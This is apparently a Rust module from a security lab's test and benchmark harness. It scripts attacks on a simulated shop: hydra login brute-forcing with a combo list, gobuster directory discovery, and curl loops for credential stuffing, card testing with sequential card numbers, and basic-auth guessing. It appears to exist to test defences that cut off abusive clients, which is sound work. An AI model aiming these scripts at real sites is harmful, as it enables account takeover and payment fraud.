//! Attacks on the lab shop with real tools and scripted clients, shared by
//! the lab tests and `bench app` so both run the same thing.

use std::{path::Path, process::Output};

use anyhow::Result;

use crate::{lab::Host, shop::ShopLab};

/// hydra's http-post-form guessing from `host` with a combo list of
/// `guesses` leaked pairs; `wait` is its per-try timeout in seconds.
pub fn hydra(shop: &ShopLab, host: &Host, guesses: usize, wait: u32) -> Result<Output> {
    let combo = shop.dir.join("combo.txt");
    let pairs: String = (1..=guesses)
        .map(|n| format!("customer{}@lab.shop:leaked-{n}\n", n % 20 + 1))
        .collect();
    std::fs::write(&combo, pairs)?;
    Ok(host
        .ns
        .cmd("timeout")
        .args(["30", "hydra", "-C"])
        .arg(&combo)
        .args([
            "-s",
            &crate::shop::PORT.to_string(),
            "-t",
            "4",
            "-w",
            &wait.to_string(),
            &shop.lab.storefront.v4.to_string(),
        ])
        .args([
            "http-post-form",
            "/login:user=^USER^&pass=^PASS^:F=Invalid login",
        ])
        .output()?)
}

/// gobuster's directory discovery from `host` with the word list `words`;
/// `wait` is its per-request timeout.
pub fn gobuster(shop: &ShopLab, host: &Host, words: &Path, wait: &str) -> Result<Output> {
    Ok(host
        .ns
        .cmd("timeout")
        .args([
            "30",
            "gobuster",
            "dir",
            "-q",
            "-t",
            "4",
            "--timeout",
            wait,
            "-u",
        ])
        .arg(shop.url("/"))
        .arg("-w")
        .arg(words)
        .output()?)
}

/// A bounded loop of curl requests from `host` with a browser's user
/// agent, `pause` seconds apart, stopping at the first that gets no answer
/// (the client is cut off). `what` is curl's arguments, where `$i` is the
/// round.
pub fn hammer(host: &Host, rounds: u32, pause: f64, what: &str) -> Result<()> {
    let script = format!(
        "for i in $(seq {rounds}); do code=$(curl -s -o /dev/null -w '%{{http_code}}' --max-time 1 -A '{}' {what}); [ \"$code\" = 000 ] && break; sleep {pause}; done",
        crate::shop::BROWSER
    );
    host.ns.cmd("sh").args(["-c", &script]).output()?;
    Ok(())
}

/// Failed logins for a new account each round at `login` (the shop's
/// login URL, directly or through a proxy): credential stuffing.
pub fn stuffing(host: &Host, login: &str, rounds: u32, pause: f64) -> Result<()> {
    hammer(
        host,
        rounds,
        pause,
        &format!("-d \"user=customer$i@lab.shop&pass=guess$i\" {login}"),
    )
}

/// Small payments with a new card each round, all declined: card testing.
pub fn card_testing(shop: &ShopLab, host: &Host, rounds: u32, pause: f64) -> Result<()> {
    hammer(
        host,
        rounds,
        pause,
        &format!(
            "-d \"card=40000000000000$(printf %02d $i)&amount=1.00\" {}",
            shop.url("/checkout")
        ),
    )
}

/// Basic-auth guesses on the staff area (nginx's error log).
pub fn basic_auth_guessing(shop: &ShopLab, host: &Host, rounds: u32, pause: f64) -> Result<()> {
    hammer(
        host,
        rounds,
        pause,
        &format!("-u \"admin:guess$i\" {}", shop.url("/staff/")),
    )
}
